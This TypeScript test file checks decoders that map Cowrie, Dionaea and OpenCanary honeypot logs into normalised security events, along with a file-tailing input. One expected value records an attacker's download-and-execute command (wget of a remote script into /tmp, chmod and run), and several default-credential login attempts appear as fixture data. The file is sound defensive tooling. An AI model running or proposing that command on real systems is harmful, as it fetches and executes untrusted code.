// Honeypot decoders on the Cowrie and Dionaea fixtures (see fixtures/README.md), the generic mapping, bad records,
// and the file input tailing a Cowrie log with a bad line in it.
import { afterEach, beforeEach, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { CirtError } from '../../../../proto/errors.ts';
import { createLogger } from '../../../../proto/runtime/log.ts';
import { loadAgentConfig } from '../../../config.ts';
import { createFileInput, type FileInputConfig } from '../../files/index.ts';
import { resolveFileInputConfig } from '../../resolve_config.ts';
import { decodeCowrie, decodeDionaea, decodeHoneypot, decodeMapped, sniffHoneypotFormat, type DecodeResult } from '../index.ts';

type Ev = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any

const FIXTURES = join(import.meta.dirname, 'fixtures');
const lines = (f: string) => readFileSync(join(FIXTURES, f), 'utf8').split('\n').filter((l) => l !== '').map((l) => JSON.parse(l) as Record<string, unknown>);
const ok = (r: DecodeResult): Ev => {
  assert.ok('event' in r, `decoded: ${'error' in r ? r.error : ''}`);
  return r.event as Ev;
};
const SHA = '29f8f61cc9006cb189a599d7e7b86b96dfc21f3bfcb39e015a3e98c7182c8fae';

describe('Cowrie JSON', () => {
  const events = lines('cowrie.json').map((r) => ok(decodeCowrie(r)));

  test('every fixture line decodes to a honeypot event of the sensor, in event time', () => {
    assert.equal(events.length, 17);
    for (const e of events) {
      assert.deepEqual(e.observer, { type: 'honeypot', product: 'cowrie', hostname: 'hp-sensor-01' });
      assert.equal(e.event.dataset, 'cowrie');
      assert.match(e.event.action, /^cowrie\./);
      assert.match(e['@timestamp'], /^2026-11-26T09:\d\d:\d\d\.\d{3}Z$/);
      assert.ok(['203.0.113.45', '198.51.100.23'].includes(e.source.ip));
    }
    assert.equal(events[0]!['@timestamp'], '2026-11-26T09:14:02.118Z', 'microseconds cut to milliseconds, UTC kept');
  });

  test('session.connect: source and destination endpoints, transport and protocol', () => {
    const e = events[0]!;
    assert.deepEqual([e.event.action, e.event.category, e.event.type], ['cowrie.session.connect', ['network'], ['connection', 'start']]);
    assert.deepEqual(e.source, { ip: '203.0.113.45', port: 50412 });
    assert.deepEqual(e.destination, { ip: '10.20.0.5', port: 2222 });
    assert.deepEqual(e.network, { transport: 'tcp', protocol: 'ssh' });
    assert.equal(e.cowrie.session, '3c1f9e0a7b2d');
    assert.equal(events[14]!.network.protocol, 'telnet');
  });

  test('logins: user.name, outcome failure/success, the password kept under cowrie.*', () => {
    const logins = events.filter((e) => e.event.category.includes('authentication'));
    assert.deepEqual(logins.map((e) => [e.user.name, e.cowrie.password, e.event.outcome]), [['root', '123456', 'failure'], ['root', 'root', 'failure'], ['root', 'admin', 'success'], ['admin', 'admin', 'failure']]);
  });

  test('commands → process.command_line; the download → url.original + file.hash.sha256; tty log hash is not a file', () => {
    const cmds = events.filter((e) => e.process);
    assert.deepEqual(cmds.map((e) => [e.event.action, e.process.command_line, e.event.outcome]), [
      ['cowrie.command.input', 'uname -a', undefined],
      ['cowrie.command.input', 'cd /tmp; wget http://198.51.100.77/bins/x86.sh; chmod +x x86.sh; ./x86.sh', undefined],
      ['cowrie.command.failed', './x86.sh', 'failure'],
    ]);
    const dl = events.find((e) => e.event.action === 'cowrie.session.file_download')!;
    assert.deepEqual([dl.url, dl.file, dl.event.category, dl.event.outcome], [{ original: 'http://198.51.100.77/bins/x86.sh' }, { hash: { sha256: SHA }, name: SHA }, ['file', 'network'], 'success']);
    const closed = events.find((e) => e.event.action === 'cowrie.log.closed')!;
    assert.equal(closed.file, undefined);
    assert.equal(events.find((e) => e.event.action === 'cowrie.session.params')!.message, undefined, 'a non-string message ([] on session.params) is not copied');
  });

  test('bad records: not Cowrie, bad source address, bad time — each names the field', () => {
    const base = { eventid: 'cowrie.login.failed', src_ip: '203.0.113.9', timestamp: '2026-11-26T09:00:00.000000Z' };
    const fail = (r: DecodeResult) => ('error' in r ? r.field : 'decoded');
    assert.equal(fail(decodeCowrie({ ...base, eventid: 'dionaea.x' })), 'eventid');
    assert.equal(fail(decodeCowrie({ ...base, src_ip: '203.0.113.999' })), 'src_ip');
    assert.equal(fail(decodeCowrie({ ...base, src_ip: undefined })), 'src_ip');
    assert.equal(fail(decodeCowrie({ ...base, timestamp: 'yesterday' })), 'timestamp');
    assert.equal(fail(decodeHoneypot('cowrie', [1, 2])), undefined, 'not an object');
    assert.deepEqual(ok(decodeCowrie({ ...base, sensor: '' }, { sensor: 'from-config' })).observer.hostname, 'from-config');
  });
});

describe('Dionaea log_json', () => {
  const events = lines('dionaea.json').map((r) => ok(decodeDionaea(r, { sensor: 'hp-sensor-02' })));

  test('one connection per record: endpoints, transport, service protocol, action and outcome', () => {
    assert.deepEqual(events.map((e) => [e.event.action, e.source.ip, e.source.port, e.destination.ip, e.destination.port, e.network.transport, e.network.protocol]), [
      ['dionaea.connection.accept', '203.0.113.45', 49822, '10.20.0.6', 445, 'tcp', 'smbd'],
      ['dionaea.connection.accept', '192.0.2.200', 53114, '10.20.0.6', 1433, 'tcp', 'mssqld'],
      ['dionaea.connection.accept', '192.0.2.201', 40288, '10.20.0.6', 21, 'tcp', 'ftpd'],
      ['dionaea.connection.accept', '198.51.100.23', 60122, '10.20.0.6', 80, 'tcp', 'httpd'],
    ]);
    for (const e of events) {
      assert.deepEqual(e.observer, { type: 'honeypot', product: 'dionaea', hostname: 'hp-sensor-02' });
      assert.equal(e.event.dataset, 'dionaea');
    }
    assert.deepEqual(events.map((e) => e.event.outcome), ['success', 'unknown', 'unknown', 'success'], 'log_json does not say whether credentials worked');
    assert.equal(events[0]!['@timestamp'], '2026-11-26T09:31:17.402Z', 'utcnow() without a zone is read as UTC');
  });

  test('credentials → user.name + authentication; FTP commands → process.command_line; flattened lists too', () => {
    assert.deepEqual([events[1]!.user, events[1]!.event.category], [{ name: 'sa' }, ['network', 'authentication']]);
    assert.deepEqual(events[2]!.process, { command_line: 'USER anonymous\nPASS guest@example.com\nQUIT' });
    assert.deepEqual(events[2]!.dionaea.usernames, ['anonymous']);
    assert.equal(events[0]!.user, undefined);
    const flat = ok(decodeDionaea({ ...lines('dionaea.json')[2], credentials: { password: ['x'], username: ['root'] }, ftp: { commands: { command: ['USER'], arguments: ['root'] } } }));
    assert.deepEqual([flat.user.name, flat.process.command_line], ['root', 'USER root']);
  });

  test('bad records name their field; a reject is a denied connection', () => {
    const rec = lines('dionaea.json')[0]!;
    const field = (r: DecodeResult) => ('error' in r ? r.field : 'decoded');
    assert.equal(field(decodeDionaea({ ...rec, connection: 'x' })), 'connection');
    assert.equal(field(decodeDionaea({ ...rec, connection: { type: 'weird' } })), 'connection.type');
    assert.equal(field(decodeDionaea({ ...rec, src_ip: 'nowhere' })), 'src_ip');
    assert.equal(field(decodeDionaea({ ...rec, timestamp: 12 })), 'timestamp');
    const rej = ok(decodeDionaea({ ...rec, connection: { protocol: 'smbd', transport: 'tcp', type: 'reject' } }));
    assert.deepEqual([rej.event.type, rej.event.outcome], [['connection', 'denied'], 'failure']);
  });

  test('sniffing the format of a file from its first record', () => {
    assert.equal(sniffHoneypotFormat(readFileSync(join(FIXTURES, 'cowrie.json'), 'utf8')), 'cowrie');
    assert.equal(sniffHoneypotFormat(readFileSync(join(FIXTURES, 'dionaea.json'), 'utf8')), 'dionaea');
    assert.equal(sniffHoneypotFormat('{"@timestamp":"2026-11-26T00:00:00Z","message":"x"}\n'), undefined);
    assert.equal(sniffHoneypotFormat('not json'), undefined);
  });
});

describe('generic JSON-lines honeypot (declarative mapping)', () => {
  // OpenCanary's JSON log line shape (opencanary.log)
  const mapping = { product: 'opencanary', fields: { '@timestamp': 'utc_time', 'source.ip': 'src_host', 'source.port': 'src_port', 'destination.ip': 'dst_host', 'destination.port': 'dst_port', 'user.name': 'logdata.USERNAME', 'event.action': 'logtype', 'observer.hostname': 'node_id' } };
  const line = { dst_host: '10.20.0.7', dst_port: 21, local_time: '2026-11-26 09:40:01.207181', local_time_adjusted: '2026-11-26 10:40:01.207181', logdata: { PASSWORD: 'default', USERNAME: 'admin' }, logtype: 2000, node_id: 'canary-01', src_host: '192.0.2.50', src_port: 58544, utc_time: '2026-11-26 09:40:01.207120' };

  test('maps the configured fields with their type checks; category from what is present', () => {
    const e = ok(decodeMapped(line, mapping));
    assert.deepEqual(e.observer, { type: 'honeypot', product: 'opencanary', hostname: 'canary-01' });
    assert.deepEqual([e['@timestamp'], e.source, e.destination, e.user, e.event.action, e.event.dataset, e.event.category], ['2026-11-26T09:40:01.207Z', { ip: '192.0.2.50', port: 58544 }, { ip: '10.20.0.7', port: 21 }, { name: 'admin' }, '2000', 'opencanary', ['authentication']]);
  });

  test('a value of the wrong type or a missing source is an error naming the record path', () => {
    const r = decodeMapped({ ...line, src_port: 'eighty' }, mapping);
    assert.ok('error' in r && r.field === 'src_port' && /a port/.test(r.error), JSON.stringify(r));
    const m = decodeMapped({ ...line, src_host: undefined }, mapping);
    assert.ok('error' in m && m.field === 'src_host', JSON.stringify(m));
  });
});

describe('file input, honeypot formats', () => {
  let dir = '';
  beforeEach(() => {
    dir = mkdtempSync(join(tmpdir(), 'honeypot-input-'));
  });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  async function tail(cfg: Partial<FileInputConfig>) {
    const events: Ev[] = [];
    const rejects: CirtError[] = [];
    const input = createFileInput(resolveFileInputConfig({ paths: [join(dir, 'cowrie.json')], positionFile: join(dir, 'positions.json'), startAt: 'beginning', pollMs: 60_000, ...cfg }));
    await input.start({ emit: async (_k, e) => void events.push(e as Ev), reject: (e) => rejects.push(e), log: createLogger('test', { write: () => {} }) });
    await input.scanNow();
    await input.stop();
    return { events, rejects, counters: input.counters() };
  }

  test('format cowrie: the fixture tails into honeypot events; bad lines are counted rejects with file:line and reason', async () => {
    const fixture = readFileSync(join(FIXTURES, 'cowrie.json'), 'utf8').split('\n');
    const text = [...fixture.slice(0, 3), 'not json {', '{"eventid":"cowrie.login.failed","src_ip":"999.1.1.1","timestamp":"2026-11-26T09:14:03.801276Z"}', ...fixture.slice(3)].join('\n');
    writeFileSync(join(dir, 'cowrie.json'), text);
    const { events, rejects, counters } = await tail({ format: 'cowrie' });
    assert.equal(events.length, 19, '17 records + 2 bad lines kept as event.original');
    const good = events.filter((e) => e.observer?.type === 'honeypot');
    assert.equal(good.length, 17);
    assert.equal(good[0]!.log.file.path, join(dir, 'cowrie.json'));
    assert.deepEqual(rejects.map((r) => [r.code, r.location?.line, r.location?.field]), [['ERR_FILE_JSON', 4, undefined], ['ERR_HONEYPOT_RECORD', 5, 'src_ip']]);
    assert.match(String(rejects[1]), /cowrie\.json:5 field src_ip byte \d+: cowrie: 'src_ip' is missing or not an IP address: "999\.1\.1\.1"/);
    const bad = events.filter((e) => e.observer?.type !== 'honeypot');
    assert.deepEqual(bad.map((e) => [e.event.dataset, e.tags[0]]), [['cowrie', '_jsonparsefailure'], ['cowrie', '_honeypotdecodefailure']]);
    assert.equal(bad[1]!.event.original.includes('999.1.1.1'), true, 'nothing is lost silently');
    assert.deepEqual([counters.json_errors, counters.honeypot_errors, counters.events_emitted], [1, 1, 19]);
  });

  test('format dionaea with a configured sensor name; format honeypot requires a mapping', async () => {
    writeFileSync(join(dir, 'cowrie.json'), readFileSync(join(FIXTURES, 'dionaea.json')));
    const { events, rejects } = await tail({ format: 'dionaea', honeypot: { sensor: 'hp-sensor-02' } });
    assert.equal(rejects.length, 0);
    assert.deepEqual(events.map((e) => e.observer.hostname), ['hp-sensor-02', 'hp-sensor-02', 'hp-sensor-02', 'hp-sensor-02']);
    assert.throws(() => createFileInput(resolveFileInputConfig({ paths: ['x'], positionFile: 'p', format: 'honeypot' })), /needs honeypot\.mapping/);
    assert.throws(() => resolveFileInputConfig({ paths: ['x'], positionFile: 'p', format: 'honeypot', honeypot: { mapping: { product: 'x', fields: { 'source.ip': 'a', '@timestamp': 't', 'user.password': 'p' } } } } as Partial<FileInputConfig>), /user\.password/);
  });
});

test('the honeypot sensor example configuration (agent.honeypot.example.yml) is a valid agent configuration', () => {
  const c = loadAgentConfig(join(import.meta.dirname, '..', 'agent.honeypot.example.yml'));
  assert.deepEqual(c.inputs.map((i) => [i.type, i.format]), [['file', 'cowrie'], ['file', 'dionaea'], ['file', 'honeypot']]);
  const mapped = c.inputs[2]!.honeypot as { mapping: { product: string; fields: Record<string, string> } };
  assert.equal(mapped.mapping.product, 'opencanary');
  assert.equal(mapped.mapping.fields['source.ip'], 'src_host');
});
